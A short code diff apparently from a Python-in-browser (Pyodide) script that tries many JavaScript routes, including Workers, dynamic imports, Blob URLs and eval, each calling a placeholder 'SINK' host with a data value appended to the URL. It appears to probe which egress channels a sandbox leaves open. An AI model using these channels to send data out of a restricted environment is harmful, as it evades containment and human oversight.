@@ -163,7 +163,8 @@ for code in (f"importScripts('SINK/script.js?{out}')", f"import('SINK/module.mjs
              f"new Worker('SINK/worker.js?{out}')",
              f"new Worker(URL.createObjectURL(new Blob([`fetch('SINK/blob?{out}').catch(() => 0)`])))",
              f"new Worker(URL.createObjectURL(new Blob([`importScripts('SINK/blob.js?{out}')`])))",
-             f"import(URL.createObjectURL(new Blob([`fetch('SINK/import?{out}')`], {{type: 'text/javascript'}})))"):
+             f"import(URL.createObjectURL(new Blob([`fetch('SINK/import?{out}')`],"
+             " {type: 'text/javascript'})))"):
     for way in (run_js, js.eval, lambda c: js.Function.new(c)(), lambda c: js.setTimeout(c, 0)):
         try: print(await way(code))
         except BaseException as e: print(type(e).__name__)
